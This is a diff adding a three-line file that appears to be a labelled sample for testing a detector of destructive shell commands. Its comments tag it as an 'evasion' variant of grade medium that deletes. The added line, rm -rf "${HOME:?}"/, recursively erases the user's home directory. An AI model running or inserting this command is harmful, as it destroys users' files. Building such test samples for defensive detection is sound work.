@@ -1,0 +1,3 @@
+# evasion: rm -rf of ${HOME:?}
+# grade: medium; does: delete
+rm -rf "${HOME:?}"/
